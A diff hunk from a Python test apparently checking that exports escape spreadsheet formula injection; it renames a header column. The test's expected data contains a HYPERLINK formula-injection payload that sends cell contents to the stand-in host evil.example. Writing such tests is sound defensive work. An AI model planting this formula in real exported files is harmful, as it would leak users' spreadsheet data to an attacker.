@@ -317,7 +317,7 @@ def test_gaps_and_every_export_show_hostile_text_as_typed(hostile_db: Path, tmp_
     for row in rows[1:]:
         for cell in row:
             assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
-    names = [row[rows[0].index("name")] for row in rows[1:]]
+    names = [row[rows[0].index("Name")] for row in rows[1:]]  # an English session
     assert '\'=HYPERLINK("http://evil.example/?d="&A1,"x")' in names
 
 
